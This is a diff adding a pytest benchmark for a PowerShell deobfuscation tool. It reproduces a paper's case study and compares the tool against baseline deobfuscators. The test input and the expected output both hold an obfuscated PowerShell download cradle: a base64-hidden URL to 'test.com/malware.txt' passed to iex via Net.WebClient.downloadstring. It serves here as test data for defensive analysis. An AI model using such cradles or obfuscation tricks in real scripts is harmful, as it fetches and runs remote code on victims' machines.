@@ -1,0 +1,70 @@
+"""E8 — Figs 7/8: the paper's case study, end to end.
+
+Fig 7(a) input runs through all three phases and must land on Fig 7(d):
+
+    Write-Host hello
+    $var0 = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'
+    $var1 = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='
+    $var2 = 'https://test.com/malware.txt'
+    .('iex') (New-Object net.webclient).downloadstring('https://...')
+
+Fig 8 compares the baselines on the same input.
+"""
+
+import pytest
+
+from benchmarks.bench_utils import (
+    baseline_adapters,
+    our_tool_adapter,
+    render_table,
+    write_result,
+)
+
+CASE = (
+    "I`E`X (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
+    "$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n"
+    "$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n"
+    "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString("
+    "[Convert]::FromBase64String($xdjmd + $lsffs))\n"
+    ".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient)"
+    ".downloadstring($sdfs)"
+)
+
+
+def test_case_study(benchmark):
+    ours = our_tool_adapter()
+    result = benchmark.pedantic(
+        lambda: ours.run(CASE), iterations=1, rounds=3
+    )
+
+    lines = result.script.splitlines()
+    rows = [[i, line] for i, line in enumerate(lines)]
+    baseline_rows = []
+    for tool in baseline_adapters():
+        out = tool.final_script(CASE).replace("\n", " \\n ")
+        baseline_rows.append([tool.name, out[:100]])
+    text = render_table(
+        "Fig 7(d) — Invoke-Deobfuscation's final output",
+        ["line", "content"],
+        rows,
+    ) + "\n" + render_table(
+        "Fig 8 — baseline outputs on the same case (truncated)",
+        ["tool", "output"],
+        baseline_rows,
+    )
+    write_result("case_study", text)
+
+    # Fig 7(d), line by line.
+    assert lines[0] == "Write-Host hello"
+    assert lines[1] == "$var0 = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'"
+    assert lines[2] == "$var1 = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='"
+    assert lines[3] == "$var2 = 'https://test.com/malware.txt'"
+    assert lines[4].startswith(".('iex')")
+    assert "'https://test.com/malware.txt'" in lines[4]
+    # The blocklist keeps the download as code, never executed.
+    assert "downloadstring" in lines[4].lower()
+
+    # Fig 8 failure modes: no baseline recovers the URL.
+    for tool in baseline_adapters():
+        out = tool.final_script(CASE)
+        assert "https://test.com/malware.txt" not in out, tool.name
